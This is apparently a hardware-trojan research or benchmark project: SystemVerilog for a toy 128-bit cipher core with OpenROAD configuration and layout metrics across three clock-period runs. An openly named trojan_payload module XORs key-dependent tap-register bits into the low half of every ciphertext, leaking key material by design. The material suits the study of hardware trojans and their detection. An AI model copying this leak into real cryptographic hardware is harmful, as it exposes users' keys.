===== src/rtl/crypto_host_pkg.sv =====
// ******************************
// Widths, round count, key seed, control states
// and the 128-bit block union
// ******************************
package crypto_host_pkg;

    localparam int block_w     = 128;              // Cipher block
    localparam int half_w      = 64;               // One half of a block
    localparam int round_count = 8;
    localparam int round_cnt_w = $clog2(round_count);

    // Seed of the key-tap register
    localparam logic [block_w-1:0] key_init = 128'h0f1e_2d3c_4b5a_6978_0f1e_2d3c_4b5a_6978;

    // Controller states
    typedef enum logic [1:0] {
        idle     = 2'b00,
        round    = 2'b01,
        finalize = 2'b10
    } ctrl_state_t;

    typedef struct packed {
        logic [half_w-1:0] hi;
        logic [half_w-1:0] lo;
    } block_halves_t;

    // One block, seen whole or as two halves
    typedef union packed {
        logic [block_w-1:0] word;
        block_halves_t      halves;
    } block_u;

endpackage


===== src/rtl/crypto_ctrl.sv =====
// ******************************
// Controller FSM: idle, rounds, finalize
// ******************************
`timescale 1ns/100ps

module crypto_ctrl (
    input  logic clk,
    input  logic rst,
    input  logic start,
    output logic load_en,
    output logic round_en,
    output logic busy,
    output logic finish
);
    import crypto_host_pkg::*;

    ctrl_state_t            ctrl_q;
    logic [round_cnt_w-1:0] round_cnt;   // Rounds already done
    logic                   last_round;

    assign last_round = (round_cnt == round_cnt_w'(round_count - 1));

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            ctrl_q    <= idle;
            round_cnt <= '0;
            finish    <= 1'b0;
        end else begin
            // Pulses in the cycle after finalize
            finish <= (ctrl_q == finalize);
            case (ctrl_q)
                idle: begin
                    if (start) begin
                        ctrl_q    <= round;
                        round_cnt <= '0;
                    end
                end
                round: begin
                    if (last_round) begin
                        ctrl_q <= finalize;
                    end else begin
                        round_cnt <= round_cnt + 1'b1;
                    end
                end
                finalize: ctrl_q <= idle;
                default:  ctrl_q <= idle;
            endcase
        end
    end

    // Start is only taken in idle
    assign load_en  = (ctrl_q == idle) && start;
    assign round_en = (ctrl_q == round);
    assign busy     = (ctrl_q != idle);

    // Exactly one round_count-long burst per accepted start
    a_round_burst: assert property (
        @(posedge clk) disable iff (rst)
        load_en |=> round_en [*round_count] ##1 !round_en
    ) else $error("round_en burst length wrong");

    a_finish_pulse: assert property (
        @(posedge clk) disable iff (rst)
        finish |=> !finish
    ) else $error("finish longer than one cycle");

    // Rounds only leave idle through an accepted start
    a_no_round_idle: assert property (
        @(posedge clk) disable iff (rst)
        $rose(round_en) |-> $past(load_en)
    ) else $error("round_en began without an accepted start");

endmodule


===== src/rtl/round_datapath.sv =====
// ******************************
// Cipher state and round key, XOR-and-rotate round
// ******************************
`timescale 1ns/100ps

module round_datapath (
    input  logic                              clk,
    input  logic                              rst,
    input  logic                              load_en,
    input  logic                              round_en,
    input  logic [crypto_host_pkg::block_w-1:0] plaintext,
    input  logic [crypto_host_pkg::block_w-1:0] cipher_key,
    output logic [crypto_host_pkg::block_w-1:0] state
);
    import crypto_host_pkg::*;

    logic [block_w-1:0] round_key;

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            state     <= '0;
            round_key <= '0;
        end else if (load_en) begin
            state     <= plaintext;
            round_key <= cipher_key;
        end else if (round_en) begin
            state     <= state ^ round_key;
            // Rotate left by one bit for the next round
            round_key <= {round_key[block_w-2:0], round_key[block_w-1]};
        end
    end

    // Controller must never overlap a load with a round
    a_load_round_excl: assert property (
        @(posedge clk) disable iff (rst)
        !(load_en && round_en)
    ) else $error("load_en and round_en together");

endmodule


===== src/rtl/key_tap_gen.sv =====
// ******************************
// Rotating key-tap register
// ******************************
`timescale 1ns/100ps

module key_tap_gen (
    input  logic                                clk,
    input  logic                                rst,
    input  logic                                start,
    input  logic                                busy,
    input  logic [crypto_host_pkg::block_w-1:0] cipher_key,
    output crypto_host_pkg::block_u             tap
);
    import crypto_host_pkg::*;

    logic [7:0] new_low;   // Feedback byte

    assign new_low = tap.word[block_w-1 -: 8] ^ cipher_key[7:0];

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            tap.word <= key_init;
        end else if (start || busy) begin
            tap.word <= {tap.word[block_w-9:0], new_low};  // Byte rotate
        end
    end

endmodule


===== src/rtl/trojan_payload.sv =====
// ******************************
// Inserted payload, folds tap word to 64 bits
// ******************************
`timescale 1ns/100ps

module trojan_payload (
    input  logic                               clk,
    input  logic                               rst,
    input  crypto_host_pkg::block_u            tap,
    output logic [crypto_host_pkg::half_w-1:0] payload
);
    import crypto_host_pkg::*;

    logic [half_w-1:0] fold;

    // Key-dependent bits leak through this fold
    assign fold = tap.halves.hi ^ tap.halves.lo;

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            payload <= '0;
        end else begin
            payload <= fold;   // Sampled every cycle
        end
    end

endmodule


===== src/rtl/output_mixer.sv =====
// ******************************
// Ciphertext register with payload mix, done pulse
// ******************************
`timescale 1ns/100ps

module output_mixer (
    input  logic                                clk,
    input  logic                                rst,
    input  logic                                finish,
    input  logic [crypto_host_pkg::block_w-1:0] state,
    input  logic [crypto_host_pkg::half_w-1:0]  payload,
    output logic [crypto_host_pkg::block_w-1:0] ciphertext,
    output logic                                done
);
    import crypto_host_pkg::*;

    block_u mix_in;
    block_u ct_q;

    assign mix_in.word = state;

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            ct_q.word <= '0;
            done      <= 1'b0;
        end else begin
            done <= finish;
            if (finish) begin
                ct_q.halves.hi <= mix_in.halves.hi;
                ct_q.halves.lo <= mix_in.halves.lo ^ payload;  // Payload lands low
            end
        end
    end

    assign ciphertext = ct_q.word;

    // Done is a single-cycle pulse one cycle after finish
    a_done_follows: assert property (
        @(posedge clk) disable iff (rst)
        finish |=> done ##1 !done
    ) else $error("done not a one-cycle pulse after finish");

endmodule


===== src/rtl/crypto_host_top.sv =====
// ******************************
// Crypto host top level
// ******************************
`timescale 1ns/100ps

module crypto_host_top (
    input  logic                                clk,
    input  logic                                rst,
    input  logic                                start,
    input  logic [crypto_host_pkg::block_w-1:0] plaintext,
    input  logic [crypto_host_pkg::block_w-1:0] cipher_key,
    output logic [crypto_host_pkg::block_w-1:0] ciphertext,
    output logic                                done
);
    import crypto_host_pkg::*;

    logic               load_en;
    logic               round_en;
    logic               busy;
    logic               finish;
    logic [block_w-1:0] state;
    block_u             tap;
    logic [half_w-1:0]  payload;

    crypto_ctrl u_ctrl (
        .clk      (clk),
        .rst      (rst),
        .start    (start),
        .load_en  (load_en),
        .round_en (round_en),
        .busy     (busy),
        .finish   (finish)
    );

    round_datapath u_datapath (
        .clk        (clk),
        .rst        (rst),
        .load_en    (load_en),
        .round_en   (round_en),
        .plaintext  (plaintext),
        .cipher_key (cipher_key),
        .state      (state)
    );

    key_tap_gen u_key_tap (
        .clk        (clk),
        .rst        (rst),
        .start      (start),
        .busy       (busy),
        .cipher_key (cipher_key),
        .tap        (tap)
    );

    trojan_payload u_trojan (
        .clk     (clk),
        .rst     (rst),
        .tap     (tap),
        .payload (payload)
    );

    output_mixer u_mixer (
        .clk        (clk),
        .rst        (rst),
        .finish     (finish),
        .state      (state),
        .payload    (payload),
        .ciphertext (ciphertext),
        .done       (done)
    );

endmodule


===== config.mk =====
export PLATFORM = sky130hd
export DESIGN_NAME = crypto_host_top
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/crypto_host_pkg.sv /design/src/rtl/crypto_ctrl.sv /design/src/rtl/round_datapath.sv /design/src/rtl/key_tap_gen.sv /design/src/rtl/trojan_payload.sv /design/src/rtl/output_mixer.sv /design/src/rtl/crypto_host_top.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CAP_MARGIN = 20
export CORE_UTILIZATION = 33
export CTS_CLUSTER_SIZE = 30
export DETAILED_ROUTE_END_ITERATION = 10
export GPL_ROUTABILITY_DRIVEN = 0
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit

===== constraint.sdc =====
create_clock -name clk -period 8.5 [get_ports clk]
set_input_delay 2.125 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 2.125 -clock clk [all_outputs]
set_load 0.05 [all_outputs]

==> metrics.cfg, run 1 <==
[status]
run_status=completed

[final_layout]
filler_cell_count=7670
drive_gt1_share_pct=30.8
nets=2714
synthToLayoutAreaGrowth_pct=17.6

[global_routing]
gr-total-overflow=0
grt_first_pass_wirelength_um=103000
globalRouteTotalUtil_pct=16.2
first_global_vias=17900
grt_max_degree=190
antenna_violations_before_repair=13

[setup_path]
worstSetupEndpointType=flop
worst_ep_arrival_time_ps=4610
r2r_slack_ps=5400
timing.reg2reg.worst_path_depth=6
regToRegEndpoint=u_datapath/state[83]$_DFFE_PP0P_
r2r_start=u_ctrl/ctrl_q[0]$_DFFE_PP0P_
critPathLaunchType=primary input
critPathRequiredTime_ps=8970
worstPathMaxFanout=96
worst-setup-path-type=in2reg

[floorplanning]
starting_utilization_of_the_core_area_pct=33.3
floorplan.rows=103
die_height_um=284
io_pins=388
core_area_mm2=0.0789
design.die.area_mm2=0.0807
chip_width_um=284

[clock_network]
cts.htree.levels=3
cts_tree=done
cts.clk_slew.worst_paths_ps=60
cts.sinks=583
post-cts-setup-buffers=0
worst_skew_pair.late_latency_ps=600
number_of_buffers_on_the_longest_clock_path=3
cts_root_buf=clkbuf_16
cts-hold-fix-buffers=0
cts_made_buffers=69
cts_repair_resize_count=0

[sta]
timing.final.crit_share_pct=48.7
tightestPinTransition_ps=1060
setup_slack_ps=4360
hold_violations=0
setup_repair_after_global_routing_missed_its_margin=false
slew-limit-headroom_pct=29.1
finalSetupTns_ps=0
setup_viol=0
clock.fmax_ghz=0.242
slew_viol_final=0
timing.clock.skew_ps=15.8
min_period_ps=4140

[synthesis]
syn_avg_cell_area_um2=12.3
synth.ff_latch_count=583
ys.warnings.count=6
seq_area_frac_synth_pct=55.9
synth.distinct_cells=33
area_of_the_mapped_netlist_mm2=0.0263
synth.net_count=2388
netlist_instances=2127

[power]
power_switching_w=0.00549
netSwitchingFraction_pct=39.4
portion_of_total_power_attributed_to_sequential_cells_pct=40.2
power.static_leakage_nw=13.9
power.combinational.fraction_pct=38.6
vdd.ir_drop.worst_v=0.000211
power_per_cell_area_mw_per_mm2=452
power.internal_w=0.00847
pwr-share-clk_pct=21.1

[placed_design]
detailedPlace.worstSlack_ps=3820
portBuffers=387
place.detailed.hpwl_um=44300

[route]
totalWireLength_um=66100
detail_route.vias_per_cell=4.86
first_iter_violations=950
routed_wire_length_per_instance_um=18.5
post-route-drc-count=0
dr.pass1.iters=5
detail-route-antenna-nets=0
num_vias=17400

[hold_path]
holdPathStages=1
worstHoldPathType=reg2reg
hold_start=u_key_tap/tap[38]$_DFFE_PP0P_
holdPathEnd=u_trojan/payload[38]$_DFF_PP0_

[job]
cap_viol_max_count=0

per-stage QoR:
step           total power, W  std cells  area (um2)  util [%]  hold slack, ps
5_1_grt                0.0149       3567       30900      39.1             512
4_1_cts                0.0142       3558       30800      39.1             496
6_report               0.0140       3569       30900      39.1             486
2_1_floorplan         0.00979       2127       26300         -             391
3_5_place_dp           0.0111       3432       28600      36.2             480
3_3_place_gp           0.0109       3432       28600      36.2             478
logic make-up (layout without fill, tap and decap cells):
family | after synthesis | in the layout | share of synthesized area (%)
muxes | 312 | 312 | 12.9
adders and majority gates | 2 | 2 | 0.0953
AOI/OAI and AO/OA | 333 | 333 | 8.85
buffers and inverters | 161 | 542 | 4.59
DFF | 583 | 583 | 55.9
and+or+nand+nor | 600 | 600 | 13.1
xor gates and xnor gates | 136 | 136 | 4.54
other | 0 | 11 | 0
power groups by stage:
| stage | Sequential, W | Combinational [W] | Clock, W |
|---|---|---|---|
| after floorplan | 0.00629 | 0.00350 | 0 |
| after global placement | 0.00563 | 0.00527 | 0 |
| after detailed placement | 0.00569 | 0.00542 | 0 |
| after CTS | 0.00566 | 0.00545 | 0.00306 |
| after global routing | 0.00584 | 0.00587 | 0.00318 |
| final | 0.00562 | 0.00539 | 0.00295 |
registers in the layout, indices dropped and copies added (netlist names):
signal and flops:
u_ctrl/ctrl_q 2, u_ctrl/finish 1, u_ctrl/round_cnt 3, u_datapath/round_key 128, u_datapath/state 128, u_key_tap/tap 128
u_mixer/ciphertext 128, u_mixer/done 1, u_trojan/payload 64
final cells by class:
type / instances / area (um2) / share of cell area (%)
timing repair buffer: 407 / 2160 / 6.99
clock buffer: 102 / 1990 / 6.45
inverter: 9 / 45.0 / 0.146
clock inverter: 24 / 270 / 0.875
multi-input combinational: 1383 / 10400 / 33.7
tap: 1050 / 1310 / 4.26
antenna: 11 / 27.5 / 0.0892
sequential: 583 / 14700 / 47.5
placed cells by master, fill, tap and decap left out, drive strengths merged:
cell,netlist,final
mux2i,128,128
xnor2,72,72
o221ai,3,3
and2,1,1
nor3,8,8
dfstp,64,64
ha,2,2
a221o,128,128
mux2,184,184
o21ai,128,128
inv,9,16
nand2b,3,3
clkinv,0,10
nor2b,129,129
xor2,64,64
o21ba,1,1
buf,130,407
bufinv,0,3
clkinvlp,0,4
dfrtp,519,519
nand2,258,258
clkbuf,22,102
a21oi,73,73
nor4bb,117,117
nor2,66,66
nand3,3,3
and4bb,11,11
or2,3,3
and2b,1,1
diode,0,11
worst max-delay path, stage by stage:
cell,delay (ps)
buf_2,250
inv_1,120
nor2_4,580
buf_4,300
buf_4,680
nor2b_1,100
a221o_1,360
worst max path at each step:
stage           from                                 to  slack (ps)  cells past startpoint
2_1_floorplan    rst  u_mixer/ciphertext[0]$_DFFE_PP0P_        2930                      1
3_3_place_gp   start   u_datapath/state[84]$_DFFE_PP0P_        3880                      7
3_5_place_dp   start   u_datapath/state[90]$_DFFE_PP0P_        3820                      7
4_1_cts        start   u_datapath/state[86]$_DFFE_PP0P_        4450                      7
5_1_grt        start   u_datapath/state[90]$_DFFE_PP0P_        4200                      7
6_report       start   u_datapath/state[83]$_DFFE_PP0P_        4360                      7
synthesized netlist by cell type, drive strengths merged:
cell type,count,area share [%]
nor2b,129,3.1
xor2,64,2.1
nand3,3,0.057
nand2b,3,0.071
nor3,8,0.15
ha,2,0.095
o21ai,128,2.4
mux2,184,8.1
dfrtp,519,49
o221ai,3,0.10
or2,3,0.081
mux2i,128,4.9
and2,1,0.024
a21oi,73,1.4
buf,130,4.1
a221o,128,4.9
nor2,66,0.96
o21ba,1,0.038
nor4bb,117,4.5
nand2,258,3.7
inv,9,0.13
and4bb,11,0.52
dfstp,64,6.4
xnor2,72,2.4
and2b,1,0.029
clkbuf,22,0.31
layer usage:
metal  share of wire (%)  track usage [%]  vias to the layer above  routed length, um
met5               0.039                0                        -                 26
met4                 2.3             5.66                        4               1510
met3                 5.0             3.38                       88               3290
met2                  49             27.0                      345              32600
met1                  43             20.8                     8679              28700
li1                    -                -                     8235                  -
Power figures use the tool's default switching activity.
==> run 2, diff against run 1 <==
- clock period: 8.5 -> 3.98 ns (I/O delays scaled with it)
==> metrics.cfg, run 2 (synthesis results as in run 1) <==
[setup_path]
worst-setup-path-type=reg2reg
slowest_delay_ps=640  ; -40 ps
timing.critical_path.from=u_ctrl/ctrl_q[0]$_DFFE_PP0P_
worst_ep_arrival_time_ps=2940  ; -1670 ps
r2r_slack_ps=1510  ; -3890 ps
r2r_start=u_ctrl/ctrl_q[0]$_DFFE_PP0P_
timing.reg2reg.worst_path_depth=5  ; -1
critPathSlowestCell=buf_4
path_cells=or2_4, nor2_4, buf_4, nor2b_1, a221o_1
regToRegEndpoint=u_datapath/state[79]$_DFFE_PP0P_
worstSetupEndpointType=flop
worstPathMaxFanout=74  ; -23%
critPathLaunchType=flop
critPathRequiredTime_ps=4450  ; -4520 ps

[placed_design]
portBuffers=387  ; unchanged
place.detailed.hpwl_um=45700  ; +3.2%
place_area_mm2=0.0289  ; +1.0%

[route]
dr.pass1.iters=5  ; unchanged
routed_wire_length_per_instance_um=18.6  ; +0.52%
post-route-drc-count=0  ; unchanged
detail_route.vias_per_cell=4.86  ; -0.10%
num_vias=17400  ; +0.32%
totalWireLength_um=66700  ; +0.94%
first_iter_violations=995  ; +4.7%
detail-route-antenna-nets=0  ; unchanged

[sta]
min_period_ps=2470
setup_repair_after_global_routing_missed_its_margin=false
timing.clock.skew_ps=22.9  ; +7.10 ps
tightestPinTransition_ps=889  ; -174 ps
timing.final.crit_share_pct=62.0
slew-limit-headroom_pct=40.7  ; +12 points
slew_viol_final=0  ; unchanged
hold_violations=0  ; unchanged
setup_viol=0  ; unchanged
clock.fmax_ghz=0.405

[global_routing]
grt_first_pass_wirelength_um=104000  ; +0.97%
first_global_vias=18000  ; +0.33%
globalRouteTotalUtil_pct=16.4  ; +0.18 points
antenna_violations_before_repair=11  ; -2
gr-total-overflow=0  ; unchanged
grt_max_degree=112  ; -41%

[power]
vdd.ir_drop.worst_v=0.000484  ; +130%
power.static_leakage_nw=14.1  ; +1.6%
power_per_cell_area_mw_per_mm2=966  ; +110%

[clock_network]
post-cts-setup-buffers=0  ; unchanged
worst_skew_pair.late_latency_ps=620  ; +20 ps
cts_root_buf=clkbuf_16
cts.clk_slew.worst_paths_ps=50  ; about the same
cts.htree.levels=3  ; unchanged
cts_made_buffers=70  ; +1.4%
cts-hold-fix-buffers=0  ; unchanged
number_of_buffers_on_the_longest_clock_path=3  ; unchanged
cts_repair_resize_count=0  ; unchanged
cts_tree=done
cts.sinks=583  ; unchanged

[floorplanning]
design.die.area_mm2=0.0807  ; unchanged
chip_width_um=284  ; unchanged
io_pins=388  ; unchanged
core_area_mm2=0.0789  ; unchanged
floorplan.rows=103  ; unchanged
starting_utilization_of_the_core_area_pct=33.3  ; unchanged
die_height_um=284  ; unchanged

[final_layout]
finish.instance_area_mm2=0.0313  ; +1.5%
leading_cell_type_in_the_layout_fill_and_taps_excluded=dfrtp_1
drive_gt1_share_pct=31.5  ; +0.76 points
filler_cell_count=7588  ; -1.1%
synthToLayoutAreaGrowth_pct=19.3
layout.cells.most_common_list=dfrtp_1, buf_2, nand2_1, mux2_2, nor2b_1
nets=2734  ; +0.74%
final_core_utilization_pct=39.7  ; +0.58 points

[status]
run_status=completed

[job]
cap_viol_max_count=0  ; unchanged

[hold_path]
worstHoldPathType=in2async

run 2: cell count changes in the layout (fill, tap and decap cells not counted), sizes merged:
cell	change
diode	-4
inv	-6
buf	+19
bufinv	+1
clkbuf	+4
clkinvlp	+1
run 2: how the worst max path moves through the flow:
stage	endpoint	slack [ps]	cells past startpoint
after floorplan	u_datapath/round_key[0]$_DFFE_PP0P_	-390	1
after global placement	u_datapath/state[80]$_DFFE_PP0P_	1010	6
after detailed placement	u_datapath/state[73]$_DFFE_PP0P_	970	6
after CTS	u_datapath/state[79]$_DFFE_PP0P_	1500	5
after global routing	u_datapath/state[66]$_DFFE_PP0P_	1400	5
final	u_datapath/state[79]$_DFFE_PP0P_	1510	5
run 2: power breakdown:
part / internal (W) / switching (W) / leakage, nW
combinational: 0.00517 / 0.00649 / 6.09
sequential: 0.00929 / 0.00272 / 6.86
clock: 0.00400 / 0.00260 / 1.19
run 2: per-layer routing:
metal	part of all wire (%)	vias to the layer above	GRT usage (%)	routed length [um]
li1	-	8276	-	-
met1	43	8659	21.2	29000
met2	49	349	27.4	33000
met3	4.6	116	3.24	3050
met4	2.5	6	5.67	1670
met5	0.060	-	0	40
run 2: stage by stage:
stage	setup WS (ps)	hold slack [ps]	TNS [ps]	cells	total power [W]
2_1_floorplan	-387	391	-98980	2127	0.0209
3_3_place_gp	1010	477	0	3450	0.0234
5_1_grt	1400	354	0	3582	0.0322
4_1_cts	1500	338	0	3576	0.0307
6_report	1510	376	0	3584	0.0303
3_5_place_dp	971	478	0	3450	0.0239
run 2: critical path: cells and delay by family (launching register included):
kind	cells	cell delay (ps)
AOI/OAI and AO/OA	1	350
buffers and inverters	1	640
DFF	1	500
and+or+nand+nor	3	810
run 2: final cells by class:
class,count,area (um2),area share [%]
clock inverters,20,275,0.879
multi-input cells,1383,10400,33.2
flip-flops and latches,583,14700,46.8
diodes,7,17.5,0.0559
repair buffers,426,2470,7.88
clock buffers,106,2140,6.83
inverters,9,45.0,0.144
well taps,1050,1310,4.19
==> run 3, diff against run 2 <==
- clock period: 3.98 -> 2.5 ns (I/O delays scaled with it)
==> metrics.cfg, run 3 (synthesis results as in run 1) <==
[setup_path]
r2r_slack_ps=270  ; -1240 ps
cp-endpoint=u_datapath/state[36]$_DFFE_PP0P_
timing.reg2reg.worst_path_depth=6  ; +1
r2r_start=u_ctrl/ctrl_q[0]$_DFFE_PP0P_
critPathLaunchType=flop
worst_ep_arrival_time_ps=2710  ; -230 ps
worst-setup-path-type=reg2reg
worstSetupEndpointType=flop
timing.critical_path.from=u_ctrl/ctrl_q[0]$_DFFE_PP0P_
regToRegEndpoint=u_datapath/state[36]$_DFFE_PP0P_
critPathRequiredTime_ps=2980  ; -1470 ps
worstPathMaxFanout=58  ; -22%

[sta]
setup_viol=0  ; unchanged
hold_violations=0  ; unchanged
timing.final.crit_share_pct=89.1  ; +27 points
slew_viol_final=0  ; unchanged
min_period_ps=2230  ; -242 ps
timing.clock.skew_ps=28.6  ; +5.66 ps
worst_hold_slack_ps=229  ; -147 ps
setup_repair_after_global_routing_missed_its_margin=false
slew-limit-headroom_pct=53.8  ; +13 points
tightestPinTransition_ps=691  ; -198 ps
clock.fmax_ghz=0.449  ; +11%

[route]
first_iter_violations=955  ; -4.0%
num_vias=17500  ; +0.57%
detail-route-antenna-nets=0  ; unchanged
routed_wire_length_per_instance_um=18.5  ; -0.60%
post-route-drc-count=0  ; unchanged
detail_route.vias_per_cell=4.86  ; about the same
dr.pass1.iters=5  ; unchanged
totalWireLength_um=66700  ; about the same

[floorplanning]
core_area_mm2=0.0789  ; unchanged
floorplan.rows=103  ; unchanged
io_pins=388  ; unchanged
die_height_um=284  ; unchanged
design.die.area_mm2=0.0807  ; unchanged
starting_utilization_of_the_core_area_pct=33.3  ; unchanged
chip_width_um=284  ; unchanged

[clock_network]
worst_skew_pair.late_latency_ps=610  ; about the same
cts_made_buffers=68  ; -2.9%
cts.sinks=583  ; unchanged
cts.clk_slew.worst_paths_ps=70  ; +20 ps
cts_root_buf=clkbuf_16
cts.htree.levels=3  ; unchanged
number_of_buffers_on_the_longest_clock_path=3  ; unchanged
cts_tree=done

[power]
power_per_cell_area_mw_per_mm2=1530  ; +59%
power.static_leakage_nw=14.3  ; +0.94%
vdd.ir_drop.worst_v=0.000650  ; +34%

[final_layout]
layout.cells.non_filler=3604  ; +0.56%
synthToLayoutAreaGrowth_pct=20.3
nets=2757  ; +0.84%
leading_cell_type_in_the_layout_fill_and_taps_excluded=dfrtp_1
drive_gt1_share_pct=32.1  ; +0.54 points
layout.cells.most_common_list=dfrtp_1, buf_2, nand2_1, mux2_2, nor2b_1

[placed_design]
place.detailed.hpwl_um=46400  ; +1.6%
portBuffers=387  ; unchanged
dp.cells=3475  ; +0.72%

[job]
cap_viol_max_count=0  ; unchanged

[status]
run_status=completed

[global_routing]
gr-total-overflow=0  ; unchanged
first_global_vias=18300  ; +1.6%
grt_max_degree=95  ; -15%
globalRouteTotalUtil_pct=16.5  ; +0.11 points
antenna_violations_before_repair=11  ; unchanged
grt_first_pass_wirelength_um=105000  ; +0.83%

[hold_path]
worstHoldPathType=in2reg

==> run 3: area by class of cell <==
class | instances | area, um2
Fill cell | 7519 | 47300
Tap cell | 1050 | 1310
Antenna cell | 4 | 10.0
Inverter | 9 | 45.0
Clock inverter | 37 | 532
Multi-Input combinational cell | 1383 | 10400
Clock buffer | 87 | 1820
Sequential cell | 583 | 14700
Timing Repair Buffer | 451 | 2780
==> run 3: layer usage <==
layer	vias to the layer above	GRT usage [%]	wire [um]
met4	8	5.51	1620
met2	331	28.0	33000
li1	8309	-	-
met1	8748	21.0	29000
met3	109	3.28	2990
met5	-	0	47
==> run 3: stage by stage <==
| stage | utilization (%) | area [um2] | setup WS (ps) | total power (W) | TNS, ps |
|---|---|---|---|---|---|
| after floorplan | - | 26300 | -1500 | 0.0333 | -383140 |
| after CTS | 40.0 | 31600 | 282 | 0.0491 | 0 |
| after global placement | 37.0 | 29200 | 361 | 0.0375 | 0 |
| after global routing | 40.0 | 31600 | 158 | 0.0515 | 0 |
| final | 40.0 | 31600 | 273 | 0.0484 | 0 |
| after detailed placement | 37.0 | 29200 | 294 | 0.0382 | 0 |
==> run 3: power by group <==
group / total, W / switching, W / internal, W
sequential: 0.0191 / 0.00433 / 0.0148
clock: 0.0105 / 0.00420 / 0.00628
combinational: 0.0188 / 0.0104 / 0.00844
==> run 3: how the worst min path moves through the flow <==
stage / end / cells after the start / from / slack (ps)
final: u_datapath/round_key[23]$_DFFE_PP0P_ / 3 / cipher_key[23] / 230
after global routing: u_datapath/round_key[125]$_DFFE_PP0P_ / 3 / cipher_key[125] / 210
after CTS: u_datapath/round_key[110]$_DFFE_PP0P_ / 3 / cipher_key[110] / 180
after detailed placement: u_trojan/payload[38]$_DFF_PP0_ / 1 / u_key_tap/tap[102]$_DFFE_PP0P_ / 480
after global placement: u_ctrl/ctrl_q[0]$_DFFE_PP0P_ / 1 / u_ctrl/ctrl_q[1]$_DFFE_PP0P_ / 470
after floorplan: u_mixer/done$_DFF_PP0_ / 0 / u_ctrl/finish$_DFF_PP0_ / 390
==> run 3: critical path: stages (launching register included) <==
cell and delay (ps):
dfrtp_1 500, or2_4 380, nor2_4 240, buf_4 280, buf_12 260, nor2b_1 80, a221o_1 320
==> run 3: what timing repair did <==
action / 4_1_cts / 5_1_grt
endpoints found under the hold margin: 5 / 0
buffers inserted: 0 / 0
setup endpoints to repair: 0 / 0
hold buffers: 1 / 0
gates resized for setup: 0 / 0
